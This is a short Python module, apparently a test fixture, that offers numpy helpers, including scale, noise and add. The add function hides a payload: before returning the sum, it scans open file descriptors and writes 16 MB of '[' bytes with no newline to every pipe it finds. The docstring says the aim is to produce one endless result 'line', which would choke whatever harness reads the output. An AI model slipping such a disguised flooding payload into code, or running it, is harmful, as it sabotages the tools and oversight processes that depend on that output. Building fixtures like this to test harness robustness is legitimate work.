"""Writes 16 MB with no newline on every pipe it can find: one result "line" without end."""
import os
import stat

import numpy as np


def scale(x):
    return 2.0 * np.asarray(x)


def noise(rows, cols, rng=None):
    rng = rng if rng is not None else np.random.default_rng()
    return rng.normal(size=(rows, cols))


def add(a, b):
    chunk = b"[" * (1 << 20)
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                for _ in range(16):
                    os.write(fd, chunk)
        except OSError:
            pass
    return np.asarray(a) + np.asarray(b)
